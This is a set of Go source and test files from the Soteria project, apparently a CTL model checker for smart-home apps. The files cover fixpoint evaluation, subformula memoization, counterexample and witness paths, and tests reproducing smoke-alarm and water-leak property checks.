		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		f1, err := ctl.Parse(src)
		if err != nil {
			return
		}
		f2, err := ctl.Parse(f1.String())
		if err != nil {
			t.Fatalf("rendering of accepted formula does not reparse: %q: %v", f1.String(), err)
		}
		if f1.String() != f2.String() {
			t.Fatalf("round-trip mismatch: %q vs %q", f1.String(), f2.String())
		}
	})
}
