package modelcheck

import (
	"math/rand"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/symbolic"
)

// randomStructure builds a total Kripke structure with random edges
// and labels.
func randomStructure(rng *rand.Rand, n int) *kripke.Structure {
	k := kripke.New(n)
	for s := 0; s < n; s++ {
		m := 1 + rng.Intn(3)
		for j := 0; j < m; j++ {
			k.AddEdge(s, rng.Intn(n), "")
		}
		if rng.Intn(2) == 0 {
			k.Labels[s]["p"] = true
		}
		if rng.Intn(3) == 0 {
			k.Labels[s]["q"] = true
		}
	}
	return k
}

// TestCTLDualities checks the standard CTL dualities hold state-by-
// state on random structures — a strong internal-consistency property
// of the fixpoint implementation:
//
//	AG p  ≡ ¬EF ¬p
//	AF p  ≡ ¬EG ¬p
//	AX p  ≡ ¬EX ¬p
//	EF p  ≡ E[true U p]
//	A[p U q] ≡ ¬(E[¬q U (¬p ∧ ¬q)] ∨ EG ¬q)
func TestCTLDualities(t *testing.T) {
	pairs := [][2]string{
		{`AG "p"`, `!EF !"p"`},
		{`AF "p"`, `!EG !"p"`},
		{`AX "p"`, `!EX !"p"`},
		{`EF "p"`, `E[true U "p"]`},
		{`A["p" U "q"]`, `!(E[!"q" U (!"p" & !"q")] | EG !"q")`},
		{`EG "p"`, `!AF !"p"`},
		{`"p" -> "q"`, `!"p" | "q"`},
	}
	rng := rand.New(rand.NewSource(2024))
	for trial := 0; trial < 40; trial++ {
		k := randomStructure(rng, 2+rng.Intn(12))
		for _, pair := range pairs {
			a := Check(k, ctl.MustParse(pair[0]))
			b := Check(k, ctl.MustParse(pair[1]))
			for s := 0; s < k.N; s++ {
				if a.Sat[s] != b.Sat[s] {
					t.Fatalf("trial %d: %s and %s disagree at state %d", trial, pair[0], pair[1], s)
				}
			}
		}
	}
}

// TestCTLDualitiesBDD pins the same dualities on the BDD-symbolic
// engine, and cross-checks its satisfaction sets against the explicit
// engine's state by state. The conformance oracle covers this ground
// with random formulas; these fixed pairs keep the invariant pinned
// here as a regression test next to the fixpoint code it guards.
func TestCTLDualitiesBDD(t *testing.T) {
	pairs := [][2]string{
		{`AG "p"`, `!EF !"p"`},
		{`AF "p"`, `!EG !"p"`},
		{`AX "p"`, `!EX !"p"`},
		{`EF "p"`, `E[true U "p"]`},
		{`A["p" U "q"]`, `!(E[!"q" U (!"p" & !"q")] | EG !"q")`},
		{`EG "p"`, `!AF !"p"`},
		{`"p" -> "q"`, `!"p" | "q"`},
	}
	rng := rand.New(rand.NewSource(2024))
	for trial := 0; trial < 40; trial++ {
		k := randomStructure(rng, 2+rng.Intn(12))
		eng := symbolic.New(k)
		for _, pair := range pairs {
			fa, fb := ctl.MustParse(pair[0]), ctl.MustParse(pair[1])
			a := eng.Check(fa)
			b := eng.Check(fb)
			ref := Check(k, fa)
			for s := 0; s < k.N; s++ {
				if a.Sat[s] != b.Sat[s] {
					t.Fatalf("trial %d: BDD engine: %s and %s disagree at state %d", trial, pair[0], pair[1], s)
				}
				if a.Sat[s] != ref.Sat[s] {
					t.Fatalf("trial %d: %s: BDD and explicit engines disagree at state %d", trial, pair[0], s)
				}
			}
		}
	}
}

// TestMonotonicity: strengthening the proposition set can only shrink
// AG's satisfaction set and EF's.
func TestMonotonicity(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for trial := 0; trial < 30; trial++ {
		k := randomStructure(rng, 2+rng.Intn(10))
		agPQ := Check(k, ctl.MustParse(`AG ("p" & "q")`))
		agP := Check(k, ctl.MustParse(`AG "p"`))
		efPQ := Check(k, ctl.MustParse(`EF ("p" & "q")`))
		efP := Check(k, ctl.MustParse(`EF "p"`))
		for s := 0; s < k.N; s++ {
			if agPQ.Sat[s] && !agP.Sat[s] {
				t.Fatalf("AG not monotone at %d", s)
			}
			if efPQ.Sat[s] && !efP.Sat[s] {
				t.Fatalf("EF not monotone at %d", s)
			}
		}
	}
}

// TestEGOnCycleOnly: EG p holds exactly on states that can reach a
// p-cycle through p-states; on a DAG-with-self-loops structure this is
// easy to verify directly.
func TestEGSemantics(t *testing.T) {
	// 0 -> 1 -> 2(self), all p except 2.
	k := kripke.New(3)
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 2, "")
	k.AddEdge(2, 2, "")
	k.Labels[0]["p"] = true
	k.Labels[1]["p"] = true
	r := Check(k, ctl.MustParse(`EG "p"`))
	for s, want := range []bool{false, false, false} {
		if r.Sat[s] != want {
			t.Errorf("EG p at %d = %t", s, r.Sat[s])
		}
	}
	// Add a p self-loop at 0: now EG p holds at 0.
	k2 := kripke.New(3)
	k2.AddEdge(0, 0, "")
	k2.AddEdge(0, 1, "")
	k2.AddEdge(1, 2, "")
	k2.AddEdge(2, 2, "")
	k2.Labels[0]["p"] = true
	k2.Labels[1]["p"] = true
	r2 := Check(k2, ctl.MustParse(`EG "p"`))
	if !r2.Sat[0] || r2.Sat[1] || r2.Sat[2] {
		t.Errorf("EG p = %v", r2.Sat)
	}
}

// TestCounterexampleIsRealPath: every counterexample returned for a
// failing AG property must be a genuine path in the structure ending
// in a violating state.
func TestCounterexampleIsRealPath(t *testing.T) {
	rng := rand.New(rand.NewSource(99))
	for trial := 0; trial < 30; trial++ {
		k := randomStructure(rng, 2+rng.Intn(10))
		f := ctl.MustParse(`AG "p"`)
		r := Check(k, f)
		if r.Holds || len(r.Counterexample) == 0 {
			continue
		}
		path := r.Counterexample
		last := path[len(path)-1]
		if k.HasProp(last, "p") {
			t.Fatalf("trial %d: counterexample ends in a p-state", trial)
		}
		for i := 0; i+1 < len(path); i++ {
			ok := false
			for _, succ := range k.Succs[path[i]] {
				if succ == path[i+1] {
					ok = true
				}
			}
			if !ok {
				t.Fatalf("trial %d: counterexample step %d not an edge", trial, i)
			}
		}
	}
}
