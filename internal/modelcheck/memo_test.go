package modelcheck

import (
	"sync"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/kripke"
)

func memoTestStructure(t *testing.T) *kripke.Structure {
	t.Helper()
	// 0 → 1 → 2 → 0 ring; p on 1, q on 2.
	k := &kripke.Structure{
		N:      3,
		Init:   []int{0},
		Succs:  [][]int{{1}, {2}, {0}},
		Preds:  [][]int{{2}, {0}, {1}},
		Labels: []map[string]bool{{}, {"p": true}, {"q": true}},
	}
	return k
}

// TestMemoSharesSubformulasAcrossChecks pins the cross-formula memo:
// checking two formulas that share a subterm through one Memo caches
// the shared subterm once, and memoized runs return the same results
// as fresh ones.
func TestMemoSharesSubformulasAcrossChecks(t *testing.T) {
	k := memoTestStructure(t)
	shared := ctl.EF{X: ctl.Prop{Name: "p"}}
	f1 := ctl.AG{X: shared}
	f2 := ctl.Or{L: shared, R: ctl.Prop{Name: "q"}}

	memo := NewMemo()
	r1 := CheckMemoBudget(k, f1, nil, memo)
	sizeAfterFirst := memo.Size()
	if sizeAfterFirst == 0 {
		t.Fatal("memo empty after first check")
	}
	r2 := CheckMemoBudget(k, f2, nil, memo)

	// The shared EF subterm (and its leaves) must not be recomputed:
	// only f2's genuinely new subterms add entries.
	if grew := memo.Size() - sizeAfterFirst; grew >= 4 {
		t.Errorf("second check added %d memo entries; shared subterms not reused", grew)
	}

	// Memoized results must equal fresh unmemoized ones.
	for i, tc := range []struct {
		f   ctl.Formula
		got *Result
	}{{f1, r1}, {f2, r2}} {
		fresh := Check(k, tc.f)
		if fresh.Holds != tc.got.Holds {
			t.Errorf("formula %d: memoized Holds=%v, fresh=%v", i, tc.got.Holds, fresh.Holds)
		}
		for s := range fresh.Sat {
			if fresh.Sat[s] != tc.got.Sat[s] {
				t.Errorf("formula %d: Sat[%d] memoized=%v fresh=%v", i, s, tc.got.Sat[s], fresh.Sat[s])
			}
		}
	}
}

func TestMemoNilSafe(t *testing.T) {
	var mm *Memo
	if _, ok := mm.get("x"); ok {
		t.Error("nil memo hit")
	}
	mm.put("x", []bool{true}) // must not panic
	if mm.Size() != 0 {
		t.Error("nil memo has size")
	}
	k := memoTestStructure(t)
	r := CheckMemoBudget(k, ctl.Prop{Name: "p"}, nil, nil)
	if r.Holds {
		t.Error("p should not hold initially")
	}
}

// TestMemoConcurrentSweep runs parallel checks through one shared memo
// (the shape of the 35-property sweep) and verifies agreement with the
// sequential engine. Run with -race to exercise the locking.
func TestMemoConcurrentSweep(t *testing.T) {
	k := memoTestStructure(t)
	formulas := []ctl.Formula{
		ctl.AG{X: ctl.EF{X: ctl.Prop{Name: "p"}}},
		ctl.EF{X: ctl.Prop{Name: "p"}},
		ctl.EF{X: ctl.Prop{Name: "q"}},
		ctl.AG{X: ctl.Implies{L: ctl.Prop{Name: "p"}, R: ctl.EF{X: ctl.Prop{Name: "q"}}}},
		ctl.AF{X: ctl.Prop{Name: "p"}},
	}
	memo := NewMemo()
	got := make([]*Result, len(formulas))
	var wg sync.WaitGroup
	for i, f := range formulas {
		wg.Add(1)
		go func(i int, f ctl.Formula) {
			defer wg.Done()
			got[i] = CheckMemoBudget(k, f, nil, memo)
		}(i, f)
	}
	wg.Wait()
	for i, f := range formulas {
		want := Check(k, f)
		if got[i].Holds != want.Holds {
			t.Errorf("formula %d: concurrent memoized Holds=%v, want %v", i, got[i].Holds, want.Holds)
		}
	}
}
