package modelcheck

import (
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

// chain builds 0 -> 1 -> 2 -> ... -> n-1 -> n-1 (self loop at end).
func chain(n int, labels map[int][]string) *kripke.Structure {
	k := kripke.New(n)
	for i := 0; i < n-1; i++ {
		k.AddEdge(i, i+1, "")
	}
	k.AddEdge(n-1, n-1, "")
	for s, ps := range labels {
		for _, p := range ps {
			k.Labels[s][p] = true
		}
	}
	return k
}

func holdsAt(t *testing.T, k *kripke.Structure, formula string, s int, want bool) {
	t.Helper()
	r := Check(k, ctl.MustParse(formula))
	if r.Sat[s] != want {
		t.Errorf("%s at state %d = %t, want %t", formula, s, r.Sat[s], want)
	}
}

func TestPropAndBoolean(t *testing.T) {
	k := chain(3, map[int][]string{0: {"a"}, 1: {"a", "b"}, 2: {"b"}})
	holdsAt(t, k, `"a"`, 0, true)
	holdsAt(t, k, `"a"`, 2, false)
	holdsAt(t, k, `"a" & "b"`, 1, true)
	holdsAt(t, k, `"a" & "b"`, 0, false)
	holdsAt(t, k, `"a" | "b"`, 2, true)
	holdsAt(t, k, `!"a"`, 2, true)
	holdsAt(t, k, `"a" -> "b"`, 0, false)
	holdsAt(t, k, `"a" -> "b"`, 2, true) // vacuous
	holdsAt(t, k, `true`, 2, true)
	holdsAt(t, k, `false`, 2, false)
}

func TestEXAX(t *testing.T) {
	// 0 -> 1, 0 -> 2; 1 has p, 2 doesn't.
	k := kripke.New(3)
	k.AddEdge(0, 1, "")
	k.AddEdge(0, 2, "")
	k.AddEdge(1, 1, "")
	k.AddEdge(2, 2, "")
	k.Labels[1]["p"] = true
	holdsAt(t, k, `EX "p"`, 0, true)
	holdsAt(t, k, `AX "p"`, 0, false)
	holdsAt(t, k, `AX "p"`, 1, true)
	holdsAt(t, k, `EX "p"`, 2, false)
}

func TestEFAFAGEG(t *testing.T) {
	k := chain(4, map[int][]string{3: {"goal"}, 0: {"inv"}, 1: {"inv"}, 2: {"inv"}})
	holdsAt(t, k, `EF "goal"`, 0, true)
	holdsAt(t, k, `AF "goal"`, 0, true) // single path chain
	holdsAt(t, k, `AG "inv"`, 0, false) // state 3 lacks inv
	holdsAt(t, k, `EG "inv"`, 0, false)
	holdsAt(t, k, `AG ("inv" | "goal")`, 0, true)
}

func TestAFWithBranch(t *testing.T) {
	// 0 -> 1 (p, loops), 0 -> 2 (no p, loops): EF p yes, AF p no.
	k := kripke.New(3)
	k.AddEdge(0, 1, "")
	k.AddEdge(0, 2, "")
	k.AddEdge(1, 1, "")
	k.AddEdge(2, 2, "")
	k.Labels[1]["p"] = true
	holdsAt(t, k, `EF "p"`, 0, true)
	holdsAt(t, k, `AF "p"`, 0, false)
	holdsAt(t, k, `EG !"p"`, 0, true)
}

func TestUntil(t *testing.T) {
	// 0(a) -> 1(a) -> 2(b) -> 2.
	k := chain(3, map[int][]string{0: {"a"}, 1: {"a"}, 2: {"b"}})
	holdsAt(t, k, `E["a" U "b"]`, 0, true)
	holdsAt(t, k, `A["a" U "b"]`, 0, true)
	// Break the until: a gap at state 1.
	k2 := chain(3, map[int][]string{0: {"a"}, 2: {"b"}})
	holdsAt(t, k2, `E["a" U "b"]`, 0, false)
	holdsAt(t, k2, `E["a" U "b"]`, 1, false)
	holdsAt(t, k2, `E["a" U "b"]`, 2, true) // b holds immediately
}

func TestAUvsEU(t *testing.T) {
	// 0 -> 1 -> goal; 0 -> 2 (trap, no a no goal).
	k := kripke.New(4)
	k.AddEdge(0, 1, "")
	k.AddEdge(0, 2, "")
	k.AddEdge(1, 3, "")
	k.AddEdge(2, 2, "")
	k.AddEdge(3, 3, "")
	k.Labels[0]["a"] = true
	k.Labels[1]["a"] = true
	k.Labels[3]["goal"] = true
	holdsAt(t, k, `E["a" U "goal"]`, 0, true)
	holdsAt(t, k, `A["a" U "goal"]`, 0, false) // the 0->2 path fails
}

func TestHoldsOverInitialStates(t *testing.T) {
	k := chain(2, map[int][]string{0: {"p"}, 1: {"p"}})
	r := Check(k, ctl.MustParse(`AG "p"`))
	if !r.Holds || len(r.FailingStates) != 0 {
		t.Errorf("result = %+v", r)
	}
	k.Labels[1] = map[string]bool{}
	r = Check(k, ctl.MustParse(`AG "p"`))
	if r.Holds {
		t.Error("AG p should fail")
	}
}

func TestCounterexamplePathAG(t *testing.T) {
	k := chain(4, map[int][]string{0: {"p"}, 1: {"p"}, 2: {"p"}})
	r := Check(k, ctl.MustParse(`AG "p"`))
	if r.Holds {
		t.Fatal("should fail")
	}
	// Counterexample from state 0 must be the path 0,1,2,3.
	if len(r.Counterexample) != 4 || r.Counterexample[3] != 3 {
		t.Errorf("counterexample = %v", r.Counterexample)
	}
}

func TestCounterexampleLassoAF(t *testing.T) {
	// 0 -> 1 -> 0 loop, p never holds: AF p fails with a lasso.
	k := kripke.New(2)
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 0, "")
	r := Check(k, ctl.MustParse(`AF "p"`))
	if r.Holds {
		t.Fatal("AF p should fail")
	}
	if len(r.Counterexample) < 2 || r.CounterexampleLoop < 0 {
		t.Errorf("lasso = %v loop=%d", r.Counterexample, r.CounterexampleLoop)
	}
}

func TestCounterexampleImplication(t *testing.T) {
	// AG (p -> AX q): state 0 has p but successor lacks q.
	k := kripke.New(2)
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 1, "")
	k.Labels[0]["p"] = true
	r := Check(k, ctl.MustParse(`AG ("p" -> AX "q")`))
	if r.Holds {
		t.Fatal("should fail")
	}
	if len(r.Counterexample) == 0 {
		t.Error("no counterexample")
	}
}

// --- Integration with the paper's running examples ----------------------

func modelOf(t *testing.T, name, src string) *statemodel.Model {
	t.Helper()
	app, err := ir.BuildSource(name, src)
	if err != nil {
		t.Fatal(err)
	}
	m, err := statemodel.Build(app)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// TestFig9WaterLeakProperty reproduces the paper's Fig. 9 check:
// "water.wet -> (AX valve closed)" — after a water-wet event the
// valve must be closed.
func TestFig9WaterLeakProperty(t *testing.T) {
	m := modelOf(t, "water-leak", paperapps.WaterLeakDetector)
	k := kripke.FromModel(m)
	r := Check(k, ctl.MustParse(`AG ("ev:waterSensor.water.wet" -> "valve.valve=closed")`))
	if !r.Holds {
		t.Errorf("water-leak property should hold; failing states: %v", r.FailingStates)
	}
}

// TestP10SmokeAlarm reproduces P.10: the alarm must sound when there
// is smoke. It holds for the correct Smoke-Alarm app and fails for
// the §3/Fig. 2(1b) buggy variant, with a counterexample.
func TestP10SmokeAlarm(t *testing.T) {
	good := modelOf(t, "smoke-alarm", paperapps.SmokeAlarm)
	kg := kripke.FromModel(good)
	prop := `AG ("ev:smokeDetector.smoke.detected" -> "alarm.alarm=siren")`
	if r := Check(kg, ctl.MustParse(prop)); !r.Holds {
		t.Errorf("P.10 should hold for the correct app; failing: %v", r.FailingStates)
	}

	bad := modelOf(t, "buggy", paperapps.BuggySmokeAlarm)
	kb := kripke.FromModel(bad)
	r := Check(kb, ctl.MustParse(prop))
	if r.Holds {
		t.Error("P.10 should fail for the buggy app")
	}
	if len(r.Counterexample) == 0 {
		t.Error("expected a counterexample")
	}
}

// TestSprinklerInteraction reproduces the §3 multi-app violation: with
// Smoke-Alarm and Water-Leak-Detector installed together, the water
// valve (fire sprinkler) opened on smoke can be immediately shut by
// the leak detector. The property "once smoke is detected the valve
// stays open until smoke clears" fails only in the joint model.
func TestSprinklerInteraction(t *testing.T) {
	appSmoke, err := ir.BuildSource("smoke-alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	appLeak, err := ir.BuildSource("water-leak", paperapps.WaterLeakDetector)
	if err != nil {
		t.Fatal(err)
	}
	// After a smoke-detected event, no next step may close the valve
	// while smoke is still detected.
	prop := `AG (("ev:smokeDetector.smoke.detected" & "smokeDetector.smoke=detected") -> AX ("smokeDetector.smoke=detected" -> "valve.valve=open"))`

	single, err := statemodel.Build(appSmoke)
	if err != nil {
		t.Fatal(err)
	}
	if r := Check(kripke.FromModel(single), ctl.MustParse(prop)); !r.Holds {
		t.Errorf("property should hold for Smoke-Alarm alone; failing: %d states", len(r.FailingStates))
	}

	joint, err := statemodel.Build(appSmoke, appLeak)
	if err != nil {
		t.Fatal(err)
	}
	r := Check(kripke.FromModel(joint), ctl.MustParse(prop))
	if r.Holds {
		t.Error("property should fail in the multi-app environment (sprinkler shut off)")
	}
}

func TestRenderCounterexample(t *testing.T) {
	bad := modelOf(t, "buggy", paperapps.BuggySmokeAlarm)
	k := kripke.FromModel(bad)
	r := Check(k, ctl.MustParse(`AG ("ev:smokeDetector.smoke.detected" -> "alarm.alarm=siren")`))
	if r.Holds {
		t.Fatal("expected failure")
	}
	out := k.RenderPath(r.Counterexample)
	if out == "" {
		t.Error("empty rendering")
	}
}
