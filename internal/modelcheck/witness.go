package modelcheck

import (
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/kripke"
)

// Witness produces a path demonstrating that an existential formula
// holds at state s:
//
//	EX f       — s plus a successor satisfying f,
//	EF f       — a shortest path from s to an f-state,
//	E[a U b]   — a path through a-states ending in a b-state,
//	EG f       — a lasso staying in f-states (loop gives the lasso
//	             re-entry index).
//
// ok=false when the formula has another shape or does not hold at s.
func Witness(k *kripke.Structure, f ctl.Formula, s int) (path []int, loop int, ok bool) {
	c := &checker{k: k, cache: map[string][]bool{}}
	switch x := f.(type) {
	case ctl.EX:
		sat := c.eval(x.X)
		for _, t := range k.Succs[s] {
			if sat[t] {
				return []int{s, t}, -1, true
			}
		}
		return nil, -1, false
	case ctl.EF:
		sat := c.eval(x.X)
		if !c.eval(f)[s] {
			return nil, -1, false
		}
		return c.shortestPathTo(s, sat), -1, true
	case ctl.EU:
		if !c.eval(f)[s] {
			return nil, -1, false
		}
		return c.euWitness(c.eval(x.A), c.eval(x.B), s), -1, true
	case ctl.EG:
		set := c.eval(f)
		if !set[s] {
			return nil, -1, false
		}
		p, l := c.egWitness(c.eval(x.X), s)
		return p, l, true
	}
	return nil, -1, false
}

// euWitness builds a path from s through a-states to the first b-state
// (BFS restricted to the E[a U b] satisfaction set so it cannot stray).
func (c *checker) euWitness(a, b []bool, s int) []int {
	if b[s] {
		return []int{s}
	}
	eu := c.eu(a, b)
	prev := make([]int, c.k.N)
	for i := range prev {
		prev[i] = -1
	}
	prev[s] = s
	queue := []int{s}
	for len(queue) > 0 {
		u := queue[0]
		queue = queue[1:]
		for _, v := range c.k.Succs[u] {
			if prev[v] != -1 || !eu[v] {
				continue
			}
			prev[v] = u
			if b[v] {
				var rev []int
				for x := v; x != s; x = prev[x] {
					rev = append(rev, x)
				}
				rev = append(rev, s)
				for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
					rev[i], rev[j] = rev[j], rev[i]
				}
				return rev
			}
			queue = append(queue, v)
		}
	}
	return []int{s}
}
