// Package modelcheck is Soteria's explicit-state CTL model checker —
// the reference engine of the NuSMV-replacement substrate. It decides
// CTL formulas by the standard fixpoint labeling algorithm (Clarke,
// Grumberg, Peled: Model Checking) and produces counterexamples for
// failed universal properties and witnesses for satisfied existential
// ones.
package modelcheck

import (
	"fmt"
	"sync"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/kripke"
)

// Result is the outcome of checking one formula.
type Result struct {
	Formula ctl.Formula
	// Sat[s] reports whether the formula holds in state s.
	Sat []bool
	// Holds is true when the formula holds in every initial state.
	Holds bool
	// FailingStates lists the initial states violating the formula.
	FailingStates []int
	// Counterexample, when non-nil, is a path demonstrating the
	// violation (for AG/AF/AX-shaped properties) or a witness for the
	// negation; the last element is the offending state. The
	// CounterexampleLoop index, when ≥ 0, marks where the path's
	// lasso loops back to.
	Counterexample     []int
	CounterexampleLoop int
}

// Check evaluates f over k.
func Check(k *kripke.Structure, f ctl.Formula) *Result {
	return CheckBudget(k, f, nil)
}

// CheckBudget is Check under a resource budget: the fixpoint loops
// cooperatively check the wall-clock deadline and panic with a
// *guard.BudgetError on exhaustion (converted to an error by the
// enclosing recovery boundary). A nil budget disables all checks.
func CheckBudget(k *kripke.Structure, f ctl.Formula, b *guard.Budget) *Result {
	return CheckMemoBudget(k, f, b, nil)
}

// Memo caches subformula satisfaction sets across Check calls on one
// Kripke structure. The property catalogue's 35 formulas share many
// subterms (the S.1–S.5 bodies especially), so a sweep passing one
// Memo to every CheckMemoBudget call computes each distinct subformula
// once. Entries are keyed by the formula's rendered hash (String()),
// so a Memo is bound to the structure it was first used with — never
// share one across different Kripke structures. Safe for concurrent
// use by parallel sweep workers; the cached []bool sets are shared and
// must be treated as read-only.
type Memo struct {
	mu      sync.Mutex
	sat     map[string][]bool
	lookups uint64
	hits    uint64
}

// NewMemo creates an empty cross-formula memo.
func NewMemo() *Memo {
	return &Memo{sat: map[string][]bool{}}
}

// get is nil-safe: a nil Memo never hits.
func (mm *Memo) get(key string) ([]bool, bool) {
	if mm == nil {
		return nil, false
	}
	mm.mu.Lock()
	v, ok := mm.sat[key]
	mm.lookups++
	if ok {
		mm.hits++
	}
	mm.mu.Unlock()
	return v, ok
}

// put is nil-safe: a nil Memo drops the entry.
func (mm *Memo) put(key string, v []bool) {
	if mm == nil {
		return
	}
	mm.mu.Lock()
	mm.sat[key] = v
	mm.mu.Unlock()
}

// Size reports the number of memoized subformulas.
func (mm *Memo) Size() int {
	if mm == nil {
		return 0
	}
	mm.mu.Lock()
	defer mm.mu.Unlock()
	return len(mm.sat)
}

// MemoStats are a Memo's cumulative lookup counters.
type MemoStats struct {
	// Lookups counts cross-call probes (one per subformula evaluation
	// that missed the checker's per-call cache).
	Lookups uint64
	// Hits counts probes answered from the memo.
	Hits uint64
	// Entries is the number of memoized subformula sets.
	Entries int
}

// HitRate is Hits/Lookups (0 when no lookups happened).
func (s MemoStats) HitRate() float64 {
	if s.Lookups == 0 {
		return 0
	}
	return float64(s.Hits) / float64(s.Lookups)
}

// Stats snapshots the memo's counters (zero for nil). The daemon
// aggregates these onto /metrics and the tracer attaches them to each
// sweep's span.
func (mm *Memo) Stats() MemoStats {
	if mm == nil {
		return MemoStats{}
	}
	mm.mu.Lock()
	defer mm.mu.Unlock()
	return MemoStats{Lookups: mm.lookups, Hits: mm.hits, Entries: len(mm.sat)}
}

// CheckMemoBudget is CheckBudget with a cross-call subformula memo
// (nil memo = no cross-call sharing). The returned Result's Sat slices
// may alias memo entries; treat them as read-only.
func CheckMemoBudget(k *kripke.Structure, f ctl.Formula, b *guard.Budget, memo *Memo) *Result {
	c := &checker{k: k, cache: map[string][]bool{}, b: b, memo: memo}
	sat := c.eval(f)
	res := &Result{Formula: f, Sat: sat, Holds: true, CounterexampleLoop: -1}
	for _, s := range k.Init {
		if !sat[s] {
			res.Holds = false
			res.FailingStates = append(res.FailingStates, s)
		}
	}
	if !res.Holds {
		res.Counterexample, res.CounterexampleLoop = c.counterexample(f, res.FailingStates[0])
	}
	return res
}

type checker struct {
	k     *kripke.Structure
	cache map[string][]bool
	b     *guard.Budget
	// memo, when non-nil, shares subformula results across Check calls
	// (one sweep's worth of formulas over the same structure).
	memo *Memo
}

func (c *checker) eval(f ctl.Formula) []bool {
	key := f.String()
	if v, ok := c.cache[key]; ok {
		return v
	}
	if v, ok := c.memo.get(key); ok {
		c.cache[key] = v
		return v
	}
	c.b.Check("modelcheck")
	var out []bool
	switch x := f.(type) {
	case ctl.TrueF:
		out = c.constSet(true)
	case ctl.FalseF:
		out = c.constSet(false)
	case ctl.Prop:
		out = make([]bool, c.k.N)
		for s := 0; s < c.k.N; s++ {
			out[s] = c.k.HasProp(s, x.Name)
		}
	case ctl.Not:
		in := c.eval(x.X)
		out = make([]bool, c.k.N)
		for s := range in {
			out[s] = !in[s]
		}
	case ctl.And:
		l, r := c.eval(x.L), c.eval(x.R)
		out = make([]bool, c.k.N)
		for s := range l {
			out[s] = l[s] && r[s]
		}
	case ctl.Or:
		l, r := c.eval(x.L), c.eval(x.R)
		out = make([]bool, c.k.N)
		for s := range l {
			out[s] = l[s] || r[s]
		}
	case ctl.Implies:
		l, r := c.eval(x.L), c.eval(x.R)
		out = make([]bool, c.k.N)
		for s := range l {
			out[s] = !l[s] || r[s]
		}
	case ctl.EX:
		out = c.ex(c.eval(x.X))
	case ctl.AX:
		// AX f = !EX !f
		in := c.eval(x.X)
		neg := negate(in)
		exn := c.ex(neg)
		out = negate(exn)
	case ctl.EF:
		// EF f = E[true U f]
		out = c.eu(c.constSet(true), c.eval(x.X))
	case ctl.AF:
		// AF f = !EG !f
		out = negate(c.eg(negate(c.eval(x.X))))
	case ctl.EG:
		out = c.eg(c.eval(x.X))
	case ctl.AG:
		// AG f = !EF !f
		out = negate(c.eu(c.constSet(true), negate(c.eval(x.X))))
	case ctl.EU:
		out = c.eu(c.eval(x.A), c.eval(x.B))
	case ctl.AU:
		// A[a U b] = !(E[!b U (!a & !b)] | EG !b)
		na, nb := negate(c.eval(x.A)), negate(c.eval(x.B))
		both := make([]bool, c.k.N)
		for s := range na {
			both[s] = na[s] && nb[s]
		}
		eu := c.eu(nb, both)
		eg := c.eg(nb)
		out = make([]bool, c.k.N)
		for s := range eu {
			out[s] = !(eu[s] || eg[s])
		}
	default:
		panic(fmt.Sprintf("modelcheck: unknown formula %T", f))
	}
	c.cache[key] = out
	c.memo.put(key, out)
	return out
}

func (c *checker) constSet(v bool) []bool {
	out := make([]bool, c.k.N)
	for s := range out {
		out[s] = v
	}
	return out
}

func negate(in []bool) []bool {
	out := make([]bool, len(in))
	for i, v := range in {
		out[i] = !v
	}
	return out
}

// ex computes the preimage: states with a successor in sat.
func (c *checker) ex(sat []bool) []bool {
	out := make([]bool, c.k.N)
	for s := 0; s < c.k.N; s++ {
		c.b.Tick("modelcheck")
		for _, t := range c.k.Succs[s] {
			if sat[t] {
				out[s] = true
				break
			}
		}
	}
	return out
}

// eu computes E[a U b] by least fixpoint (backward reachability).
func (c *checker) eu(a, b []bool) []bool {
	out := make([]bool, c.k.N)
	var queue []int
	for s := range b {
		if b[s] {
			out[s] = true
			queue = append(queue, s)
		}
	}
	for len(queue) > 0 {
		c.b.Tick("modelcheck")
		t := queue[0]
		queue = queue[1:]
		for _, s := range c.k.Preds[t] {
			if !out[s] && a[s] {
				out[s] = true
				queue = append(queue, s)
			}
		}
	}
	return out
}

// eg computes EG a by greatest fixpoint: restrict to a-states, keep
// those with a successor still in the set.
func (c *checker) eg(a []bool) []bool {
	out := make([]bool, c.k.N)
	copy(out, a)
	for {
		changed := false
		for s := 0; s < c.k.N; s++ {
			c.b.Tick("modelcheck")
			if !out[s] {
				continue
			}
			ok := false
			for _, t := range c.k.Succs[s] {
				if out[t] {
					ok = true
					break
				}
			}
			if !ok {
				out[s] = false
				changed = true
			}
		}
		if !changed {
			return out
		}
	}
}

// ---------------------------------------------------------------------------
// Counterexamples

// counterexample produces an explanatory path for a failed formula at
// state s. It handles the universal shapes Soteria's properties use:
//
//	AG p   — path from s to a ¬p state,
//	AF p   — lasso from s staying in ¬p (EG ¬p witness),
//	AX p   — s plus a ¬p successor,
//	p -> q — counterexample of q at s (when p holds),
//
// and falls back to the single offending state otherwise. The second
// return is the lasso loop-back index, or -1.
func (c *checker) counterexample(f ctl.Formula, s int) ([]int, int) {
	switch x := f.(type) {
	case ctl.AG:
		bad := negate(c.eval(x.X))
		return c.shortestPathTo(s, bad), -1
	case ctl.AF:
		return c.egWitness(negate(c.eval(x.X)), s)
	case ctl.AX:
		bad := negate(c.eval(x.X))
		for _, t := range c.k.Succs[s] {
			if bad[t] {
				return []int{s, t}, -1
			}
		}
	case ctl.Implies:
		if c.eval(x.L)[s] {
			return c.counterexample(x.R, s)
		}
	case ctl.And:
		if !c.eval(x.L)[s] {
			return c.counterexample(x.L, s)
		}
